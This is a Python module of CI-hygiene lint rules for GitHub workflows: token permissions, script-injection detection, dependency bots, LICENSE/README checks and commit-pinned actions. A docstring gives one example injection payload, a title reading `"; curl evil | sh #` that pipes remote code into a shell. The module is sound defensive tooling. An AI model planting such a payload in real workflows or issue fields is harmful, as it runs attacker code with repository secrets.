"""GA: CI hygiene — least-privilege workflow tokens, no script injection, dependency updates, LICENSE and README,
third-party actions pinned to a commit."""

from __future__ import annotations

import posixpath
import re
from collections.abc import Iterator
from typing import Any

from fsdl_check.model import Finding, Rule, Severity
from fsdl_check.parsing.tomlfile import TomlDoc
from fsdl_check.parsing.workflow import Workflow
from fsdl_check.parsing.yamlfile import LineDict, YamlDoc, line_of
from fsdl_check.regex import lazy
from fsdl_check.repo import Repo


def key_line(mapping: Any, key: str, default: int = 1) -> int:
    known = isinstance(mapping, LineDict) and key in mapping  # mutation: equivalent (mappings load as LineDicts)
    return mapping.line_of(key) if known else default


class WorkflowPermissions(Rule):
    """GitHub workflows restrict their token's permissions

    Without a `permissions:` block the `GITHUB_TOKEN` gets the repository's default scope, often write access to
    code, packages and releases; a compromised action or dependency in a test job can then push to the
    repository. Declare `permissions: contents: read` at the top and widen it only in the job that needs more.
    """

    code, severity = "GA001", Severity.WARNING
    security_severity = 7.0  # code scanning's score (high at 7+, critical at 9+)
    fix = "Add `permissions: {contents: read}` at the top; see the template's `.github/workflows/ci.yml`."
    template_file = ".github/workflows/ci.yml"
    example = "on: [push]\njobs:\n  test:\n    runs-on: ubuntu-latest  # no permissions: anywhere"

    def check(self, workflows: list[Workflow]) -> Iterator[Finding]:
        unset: list[tuple[Workflow, str]] = []  # workflows that set no permissions, and the jobs left open
        for workflow in workflows:
            if workflow.provider != "github" or not workflow.data:
                continue
            data = workflow.data
            if "permissions" in data:
                if data["permissions"] == "write-all":
                    yield self.finding(workflow.path, key_line(data, "permissions"), "permissions: write-all")
                continue
            jobs = workflow.jobs
            loose = [name for name, job in jobs.items() if "permissions" not in job]
            for name, job in jobs.items():
                if job.get("permissions") == "write-all":
                    yield self.finding(workflow.path, key_line(job, "permissions"), f"job {name} has write-all")
            if loose:
                unset.append((workflow, ", ".join(loose[:3]) + (", ..." if len(loose) > 3 else "")))
        if not unset:
            return
        # One fact, one finding: the first such workflow, with the others listed (`--fix` restricts them all).
        first, jobs_listed = unset[0]
        message = f"no top-level `permissions:` (and none on job {jobs_listed})"
        if len(unset) > 1:
            others = [posixpath.basename(w.path) for w, _ in unset[1:]]
            message += f"; {len(others)} more workflows set none either: {listing(others)}"
        yield self.finding(first.path, key_line(first.data, "on"), message)


#: `${{ ... }}` expressions whose value an outside contributor controls (titles, bodies, branch names, ...).
UNTRUSTED_EXPRESSION = lazy(
    r"""\$\{\{[^}]*?\b(
        github\.head_ref
      | github\.event\.[\w.*\[\]'"-]*?\.(?:title|body|message|label|email|page_name|default_branch|head_branch)\b
      | github\.event\.[\w.*\[\]'"-]*?(?:head\.ref|author\.name|committer\.name)\b
    )""",
    re.VERBOSE,
)
PR_HEAD = lazy(r"github\.event\.pull_request\.head|github\.head_ref")


class UntrustedInput(Rule):
    """Workflows neither check out pull-request code under `pull_request_target` nor interpolate untrusted input

    `pull_request_target` runs with a write token and the repository's secrets; checking out the pull request's
    head there runs a stranger's code with both. And `${{ github.event.issue.title }}` (or a PR body, a branch
    name, a commit message) pasted into `run:` is shell injection: a title like `"; curl evil | sh #` runs. Pass
    such values through `env:` and quote them, and keep untrusted code under `pull_request`.
    """

    code, severity = "GA002", Severity.ERROR
    security_severity = 8.8  # code scanning's score (high at 7+, critical at 9+)
    fix = (
        'Move the expression into `env:` and use `"$VAR"` in the script; run PR code under `pull_request`. '
        "See the template's `.github/workflows/ci.yml`."
    )
    template_file = ".github/workflows/ci.yml"
    example = 'on: issues\njobs:\n  triage:\n    steps:\n      - run: echo "${{ github.event.issue.title }}"'

    def check(self, workflows: list[Workflow]) -> Iterator[Finding]:
        for workflow in workflows:
            if workflow.provider != "github":
                continue  # mutation: equivalent (GitLab's workflow is listed last, after every GitHub one)
            target = "pull_request_target" in workflow.triggers
            for step in workflow.steps:
                with_ = step.with_ or {}
                if target and step.uses and step.uses.startswith("actions/checkout"):
                    ref = with_.get("ref")
                    if isinstance(ref, str) and PR_HEAD.search(ref):
                        yield self.finding(workflow.path, step.line, "pull_request_target checks out the PR head")
                script = step.run
                if script is None and step.uses and step.uses.startswith("actions/github-script"):
                    script = str(with_.get("script", ""))
                match = UNTRUSTED_EXPRESSION.search(script or "")
                if match:
                    yield self.finding(workflow.path, step.line, f"`{match[1]}` interpolated into a script")


DEPENDENCY_BOTS = (
    ".github/dependabot.yml", ".github/dependabot.yaml", "renovate.json", "renovate.json5", ".renovaterc",
    ".renovaterc.json", ".renovaterc.json5", ".github/renovate.json", ".github/renovate.json5",
    ".gitlab/renovate.json", ".gitlab/renovate.json5",
)  # fmt: skip


class DependencyUpdates(Rule):
    """A dependency update tool is configured (Dependabot or Renovate)

    Pinned dependencies and locked actions are only safe while someone bumps them: security fixes in PyTorch,
    Lightning or a GitHub action never arrive otherwise. Dependabot or Renovate opens the update pull requests,
    and CI tells whether they break the training code.
    """

    code, severity = "GA003", Severity.INFO
    fix = "Add `.github/dependabot.yml` for pip and github-actions; see the template's `.github/dependabot.yml`."
    template_file = ".github/dependabot.yml"

    def check(self, repo: Repo) -> Iterator[Finding]:
        if repo.has(*DEPENDENCY_BOTS) is None:
            yield self.finding(".github/dependabot.yml", None, "no Dependabot or Renovate configuration")


LICENSE_NAMES = lazy(r"(LICEN[CS]E|COPYING)([.-][\w.-]+)?", re.IGNORECASE)
README_NAMES = lazy(r"README(\.(md|rst|txt|markdown))?", re.IGNORECASE)


class LicenseAndReadme(Rule):
    """The repository has a LICENSE and a README

    Without a license nobody may legally use, modify or share the code or the models trained with it; without a
    README nobody knows how to install it, train it or reproduce its results. Both are the first files a user,
    a reviewer or a package index looks for.
    """

    code, severity = "GA004", Severity.WARNING
    fix = "Add a LICENSE file and a README.md; see the template's `LICENSE` and `README.md`."
    template_file = "LICENSE"

    def check(self, repo: Repo, pyproject: TomlDoc | None) -> Iterator[Finding]:
        top_level = [p for p in repo.paths if "/" not in p]
        declared = pyproject is not None and (
            pyproject.get("project.license") is not None or pyproject.get("project.license-files") is not None
        )
        if not declared and not any(LICENSE_NAMES.fullmatch(p) for p in top_level):
            yield self.finding("LICENSE", None, "no LICENSE file and no `license` in [project]")
        if not any(README_NAMES.fullmatch(p) for p in top_level):
            yield self.finding("README.md", None, "no README")


FULL_SHA = lazy(r"[0-9a-fA-F]{40}")
SHORT_SHA = lazy(r"(?=.*[a-fA-F])[0-9a-fA-F]{7,39}")
#: A ref that reads as a release: `v4`, `v1.2.3`, `2.0`, `v2.0.0-rc.1`; anything else (`main`, `release/v1`,
#: `stable`, `latest`) is taken for a branch.
VERSION_TAG = lazy(r"v?\d+(?:\.\d+)*(?:[-+.][0-9A-Za-z][0-9A-Za-z.+-]*)?", re.IGNORECASE)
#: Owners whose actions are GitHub's own and are not asked to be pinned to a commit.
GITHUB_OWNERS = {"actions", "github"}
ACTION_FILES = {"action.yml", "action.yaml"}
#: How many references of one kind a finding names before it says how many more there are.
LISTED = 6


def unpinned(uses: str) -> str | None:
    """The kind of an unpinned `uses:` reference ("branch", "tag", "short SHA" or "no ref"); None when it is
    pinned, local, GitHub's own, or not something to judge (an expression)."""
    uses = uses.strip()
    if not uses or uses.startswith("./") or "${{" in uses:
        return None
    if uses.startswith("docker://"):
        image = uses[len("docker://") :]
        if "@sha256:" in image:
            return None
        _, colon, tag = image.rpartition(":")
        if not colon or "/" in tag:  # no tag (`registry:5000/image` has a port, not a tag)
            return "no ref"
        return "tag" if VERSION_TAG.fullmatch(tag) else "branch"
    action, at, ref = uses.partition("@")
    if action.split("/", 1)[0].lower() in GITHUB_OWNERS:  # mutation: equivalent (only the first part is read)
        return None
    if not at or not ref:
        return "no ref"
    if FULL_SHA.fullmatch(ref):
        return None
    if SHORT_SHA.fullmatch(ref):
        return "short SHA"
    return "tag" if VERSION_TAG.fullmatch(ref) else "branch"


def step_uses(steps: Any) -> Iterator[tuple[str, int]]:
    for step in steps if isinstance(steps, list) else []:
        uses = step.get("uses") if isinstance(step, dict) else None
        if isinstance(uses, str):
            yield uses, line_of(uses, key_line(step, "uses"))


def action_uses(workflows: list[Workflow], yaml_files: list[YamlDoc]) -> Iterator[tuple[str, list[tuple[str, int]]]]:
    """Each GitHub workflow and composite action file with its `uses:` references and their lines: steps' and
    jobs' (reusable workflows) in a workflow, `runs.steps` in an `action.yml`."""
    for workflow in workflows:
        if workflow.provider != "github":
            continue  # mutation: equivalent (GitLab's workflow is listed last, after every GitHub one)
        found: list[tuple[str, int]] = []
        for job in workflow.jobs.values():
            uses = job.get("uses")
            if isinstance(uses, str):
                found.append((uses, line_of(uses, key_line(job, "uses"))))
            found += step_uses(job.get("steps"))
        yield workflow.path, found
    for doc in yaml_files:
        if doc.path.rpartition("/")[2] not in ACTION_FILES or not isinstance(doc.first, dict):
            continue
        runs = doc.first.get("runs")
        if isinstance(runs, dict):
            yield doc.path, list(step_uses(runs.get("steps")))


def listing(refs: list[str]) -> str:
    more = len(refs) - LISTED
    return ", ".join(refs[:LISTED]) + (f" and {more} more" if more > 0 else "")


class PinnedActions(Rule):
    """Third-party actions are pinned to a commit SHA, never a branch

    `uses: owner/action@v4` runs whatever commit the tag points at today, with the job's token and secrets, and
    the action's owner (or whoever takes over their account) can move the tag: in March 2025 the tags of
    `tj-actions/changed-files` were moved to a commit that printed CI secrets into the build logs of the
    repositories using it. A branch (`@main`) is worse: it changes with every push, with no release to review.
    Only a full 40-character commit SHA names code that cannot change. Local actions (`./...`), `docker://`
    images pinned by digest and the actions GitHub itself owns (`actions/*`, `github/*`) are not flagged: those
    are the platform's own code, trusted as far as the platform that runs the workflow is (zizmor, too, allowed a
    tag for them by default until its v1.20; the template pins them anyway). Workflow steps, reusable-workflow
    jobs and composite actions (`action.yml`) are read.
    """

    code, severity = "GA005", Severity.WARNING
    security_severity = 6.5  # code scanning's score (high at 7+, critical at 9+)
    fix = (
        "Pin each third-party action to its full commit SHA with the tag as a trailing comment "
        "(`uses: owner/action@<40-hex sha> # v4.1.0`; a `docker://` image to `@sha256:<digest>`), and let "
        "Dependabot or Renovate (the `github-actions` ecosystem) update both; see the template's "
        "`.github/workflows/ci.yml`."
    )
    template_file = ".github/workflows/ci.yml"
    example = (
        "jobs:\n  test:\n    steps:\n      - uses: actions/checkout@v4          # GitHub's own: not flagged\n"
        "      - uses: astral-sh/setup-uv@v6        # a tag: can be moved\n"
        "      - uses: codecov/codecov-action@main  # a branch: moves with every push"
    )

    def check(self, workflows: list[Workflow], yaml_files: list[YamlDoc]) -> Iterator[Finding]:
        for path, uses in action_uses(workflows, yaml_files):
            kinds: dict[str, list[str]] = {"branch": [], "tag": [], "short SHA": [], "no ref": []}
            first: int | None = None
            for ref, line in sorted(uses, key=lambda item: item[1]):
                kind = unpinned(ref)
                if kind is None:
                    continue
                first = line if first is None else first
                if ref.strip() not in kinds[kind]:
                    kinds[kind].append(ref.strip())
            if first is None:
                continue
            parts = []
            if kinds["branch"]:
                parts.append(f"on a branch (worse: it moves with every push): {listing(kinds['branch'])}")
            if kinds["tag"]:
                parts.append(f"on a version tag (it can be moved): {listing(kinds['tag'])}")
            if kinds["short SHA"]:
                parts.append(f"on an abbreviated SHA: {listing(kinds['short SHA'])}")
            if kinds["no ref"]:
                parts.append(f"with no ref: {listing(kinds['no ref'])}")
            count = sum(len(refs) for refs in kinds.values())
            docker = any(ref.startswith("docker://") for refs in kinds.values() for ref in refs)
            yield self.finding(
                path,
                first,
                f"{count} third-party action{'s' if count > 1 else ''} not pinned to a commit SHA, "
                + "; ".join(parts)
                + ". Pin each to its full commit SHA with the tag as a trailing comment "
                "(`uses: owner/action@<40-hex sha> # v4.1.0`"
                + ("; a `docker://` image to `@sha256:<digest>`" if docker else "")
                + ") and let Dependabot or Renovate update it",
            )
